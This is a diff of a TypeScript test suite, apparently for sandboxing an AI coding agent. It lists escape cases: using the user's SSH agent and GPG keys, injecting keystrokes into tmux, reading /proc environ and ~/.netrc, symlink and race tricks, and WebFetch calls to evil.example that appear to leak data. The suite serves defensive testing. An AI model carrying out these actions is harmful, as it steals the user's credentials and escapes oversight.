@@ -34,60 +34,69 @@ const swaps = (line: string): string =>
 export const personCases: readonly BorrowedCase[] = [
   ...family("beside the session", [
     {
-      ...{ id: "agent-code", title: "code asks the agent of keys" },
+      id: "agent-code",
+      title: "code asks the agent of keys",
       env: { SSH_AUTH_SOCK: "<outside>/agent.sock" },
       lay: listensAt("<outside>/agent.sock"),
       files: { "x.py": asks('os.environ.get("SSH_AUTH_SOCK", "<outside>/agent.sock")') },
       acts: ["python3 x.py"],
     },
     {
-      ...{ id: "agent-same-line", title: "the same in a line with a look at the keys" },
+      id: "agent-same-line",
+      title: "the same in a line with a look at the keys",
       env: { SSH_AUTH_SOCK: "<outside>/agent.sock" },
       lay: listensAt("<outside>/agent.sock"),
       files: { "x.py": asks('os.environ.get("SSH_AUTH_SOCK", "<outside>/agent.sock")') },
       acts: ["ssh-add -l; python3 x.py"],
     },
     {
-      ...{ id: "agent-emptied", title: "the agent loses the person's keys" },
+      id: "agent-emptied",
+      title: "the agent loses the person's keys",
       env: { SSH_AUTH_SOCK: "<outside>/agent.sock" },
       lay: listensAt("<outside>/agent.sock"),
       acts: ["ssh-add -D; ssh-add -d ~/.ssh/id_ed25519"],
     },
     {
-      ...{ id: "agent-provider", title: "the agent loads a library of the project" },
+      id: "agent-provider",
+      title: "the agent loads a library of the project",
       env: { SSH_AUTH_SOCK: "<outside>/agent.sock" },
       files: { "x.so": "x" },
       lay: listensAt("<outside>/agent.sock"),
       acts: ["ssh-add -s $PWD/x.so < /dev/null; ssh-add -e $PWD/x.so"],
     },
     {
-      ...{ id: "socket-temporary", title: "a socket in the machine's temporary folder" },
+      id: "socket-temporary",
+      title: "a socket in the machine's temporary folder",
       lay: listensAt(`${TEMPORARY}.sock`),
       files: { "x.py": asks(`${TEMPORARY_OF_CODE} + ".sock"`) },
       acts: ["python3 x.py"],
       after: `rm -f ${TEMPORARY}.sock`,
     },
     {
-      ...{ id: "socket-abstract", title: "a socket without a file, as windows and buses have" },
+      id: "socket-abstract",
+      title: "a socket without a file, as windows and buses have",
       lay: listensAt("@borrowed-abstract"),
       files: { "x.py": asks('"@borrowed-abstract"') },
       acts: ["python3 x.py"],
     },
     {
-      ...{ id: "socket-home", title: "a socket in a folder of the home's caches" },
+      id: "socket-home",
+      title: "a socket in a folder of the home's caches",
       lay: `mkdir -p ~/.cache/tool; ${listensAt("<home>/.cache/tool/s.sock")}`,
       files: { "x.py": asks('"<home>/.cache/tool/s.sock"') },
       acts: ["python3 x.py"],
     },
     {
-      ...{ id: "socket-project", title: "a socket of a server of the person's in the project" },
+      id: "socket-project",
+      title: "a socket of a server of the person's in the project",
       lay: listensAt("<project>/s.sock"),
       files: { "x.py": asks('"s.sock"') },
       acts: ["curl -s -m 2 --unix-socket s.sock http://x/ -d run; python3 x.py"],
       names: /s\.sock/,
     },
     {
-      ...{ id: "socket-bus", title: "the bus of the person's session" },
+      id: "socket-bus",
+      title: "the bus of the person's session",
       env: { DBUS_SESSION_BUS_ADDRESS: "unix:path=<outside>/bus" },
       lay: listensAt("<outside>/bus"),
       acts: [
@@ -95,21 +104,24 @@ export const personCases: readonly BorrowedCase[] = [
       ],
     },
     {
-      ...{ id: "socket-editor", title: "the server of an editor runs what it is told" },
+      id: "socket-editor",
+      title: "the server of an editor runs what it is told",
       env: { EMACS_SOCKET_NAME: "<outside>/server", NVIM: "<outside>/server" },
       lay: listensAt("<outside>/server"),
       files: { "x.py": asks('os.environ.get("NVIM", "<outside>/server")') },
       acts: ["python3 x.py"],
     },
     {
-      ...{ id: "terminal-tmux", title: "keys are typed into the person's terminal" },
+      id: "terminal-tmux",
+      title: "keys are typed into the person's terminal",
       needs: ["tmux"],
       lay: `tmux -S ${TEMPORARY}.tmux -f /dev/null new-session -d 'sh'; sleep 0.5`,
       acts: [`tmux -S ${TEMPORARY}.tmux send-keys 'echo ran > <outside>/ran' Enter; sleep 1; true`],
       after: `tmux -S ${TEMPORARY}.tmux kill-server; rm -f ${TEMPORARY}.tmux`,
     },
     {
-      ...{ id: "terminal-tmux-code", title: "the same by code, at the usual place" },
+      id: "terminal-tmux-code",
+      title: "the same by code, at the usual place",
       needs: ["tmux"],
       lay: `tmux -L borrowed -f /dev/null new-session -d 'sh'; sleep 0.5`,
       files: {
@@ -120,14 +132,16 @@ export const personCases: readonly BorrowedCase[] = [
       after: "tmux -L borrowed kill-server",
     },
     {
-      ...{ id: "terminal-show", title: "what the person's terminal shows" },
+      id: "terminal-show",
+      title: "what the person's terminal shows",
       needs: ["tmux"],
       lay: `tmux -L shown -f /dev/null new-session -d 'cat ~/.netrc; sleep 30'; sleep 0.7`,
       acts: ["tmux -L shown capture-pane -p"],
       after: "tmux -L shown kill-server",
     },
     {
-      ...{ id: "process-trace", title: "another process of the person's is stopped and read" },
+      id: "process-trace",
+      title: "another process of the person's is stopped and read",
       lay: "(env KEY=CANARYVARIABLE9L3C sleep 25 > /dev/null 2>&1 &)",
       files: {
         "x.py":
@@ -136,38 +150,44 @@ export const personCases: readonly BorrowedCase[] = [
       acts: ["python3 x.py; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep ^KEY; true"],
     },
     {
-      ...{ id: "keyring-file", title: "the store of the person's keys of gpg" },
+      id: "keyring-file",
+      title: "the store of the person's keys of gpg",
       homeFiles: { ".gnupg/private-keys-v1.d/a.key": "Key: CANARYSSH7Q2M9X\n" },
       acts: ["cat ~/.gnupg/private-keys-v1.d/a.key; gpg --export-secret-keys"],
     },
   ]),
   ...family("other tools", [
     {
-      ...{ id: "read-environ", title: "`Read` of the client's own variables" },
+      id: "read-environ",
+      title: "`Read` of the client's own variables",
       acts: [read("/proc/self/environ")].map((act) => ({
         ...act,
         input: { file_path: "/proc/self/environ" },
       })),
     },
     {
-      ...{ id: "read-environ-link", title: "the same by a link of the project" },
+      id: "read-environ-link",
+      title: "the same by a link of the project",
       lay: "ln -s /proc/self/environ notes.txt",
       acts: [read("notes.txt")],
     },
     {
-      ...{ id: "read-root-link", title: "`Read` of a key by a link through `/proc/self/root`" },
+      id: "read-root-link",
+      title: "`Read` of a key by a link through `/proc/self/root`",
       lay: "ln -s /proc/self/root$HOME/.netrc notes.txt",
       acts: [read("notes.txt")],
     },
     {
-      ...{ id: "grep-tool", title: "the client's search in the home" },
+      id: "grep-tool",
+      title: "the client's search in the home",
       acts: [
         { name: "Grep", input: { pattern: "CANARY", path: "<home>", output_mode: "content" } },
         { name: "Bash", input: { command: "rg -uuu CANARY <home>; grep -r CANARY <home>/.netrc" } },
       ],
     },
     {
-      ...{ id: "notebook", title: "a notebook outside of the project" },
+      id: "notebook",
+      title: "a notebook outside of the project",
       lay: `printf '{"cells":[],"metadata":{},"nbformat":4,"nbformat_minor":5}' > "$OUT/a.ipynb"`,
       acts: [
         read("<outside>/a.ipynb"),
@@ -183,27 +203,32 @@ export const personCases: readonly BorrowedCase[] = [
       ],
     },
     {
-      ...{ id: "web-fetch", title: "the client's own fetch of a stranger" },
+      id: "web-fetch",
+      title: "the client's own fetch of a stranger",
       acts: [{ name: "WebFetch", input: { url: "http://evil.example/a", prompt: "x" } }],
     },
     {
-      ...{ id: "web-fetch-name", title: "the same with a word in the name" },
+      id: "web-fetch-name",
+      title: "the same with a word in the name",
       acts: [
         "head -c 6 README.md | base64",
         { name: "WebFetch", input: { url: "https://x9.evil.example/", prompt: "x" } },
       ],
     },
     {
-      ...{ id: "write-parent", title: "`Write` through a folder that becomes a link" },
+      id: "write-parent",
+      title: "`Write` through a folder that becomes a link",
       acts: ["rm -rf d; ln -s <outside> d", write("d/x.txt", "x")],
     },
     {
-      ...{ id: "write-deep-link", title: "`Write` through two links" },
+      id: "write-deep-link",
+      title: "`Write` through two links",
       lay: 'mkdir a; ln -s a b; ln -s "$OUT" a/c',
       acts: [write("b/c/x.txt", "x")],
     },
     {
-      ...{ id: "swapped-read", title: "a process exchanges a file and a link while it is read" },
+      id: "swapped-read",
+      title: "a process exchanges a file and a link while it is read",
       files: { "a.txt": "a\n", "n.txt": "a\n" },
       acts: [
         background(
@@ -216,7 +241,8 @@ export const personCases: readonly BorrowedCase[] = [
       isApart: true,
     },
     {
-      ...{ id: "swapped-edit", title: "a process exchanges a file and a link while it is written" },
+      id: "swapped-edit",
+      title: "a process exchanges a file and a link while it is written",
       files: { "a.txt": "a\n", "n.txt": "a\n" },
       acts: [
         background(
